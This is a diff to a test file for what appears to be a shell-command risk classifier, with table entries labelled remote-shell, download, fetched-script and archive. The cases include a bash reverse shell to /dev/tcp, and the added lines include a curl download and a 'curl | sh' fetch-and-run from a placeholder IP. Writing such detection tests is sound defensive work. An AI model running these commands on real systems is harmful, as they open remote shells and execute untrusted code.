@@ -11,6 +11,8 @@ describe('sees in', () => {
     ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', ['remote-shell']],
     ['python3 -c import socket,subprocess', ['remote-shell']],
     ['pip install x', ['download']],
+    ['curl -o /tmp/x https://203.0.113.9/x', ['download']],
+    ['sh -c curl -s https://203.0.113.9/x | sh', ['fetched-script']],
     ['tar cf - /data', ['archive']],
     ['tar -czf - /data', ['archive']],
     ['sh -c tar --create -f - /data', ['archive']],
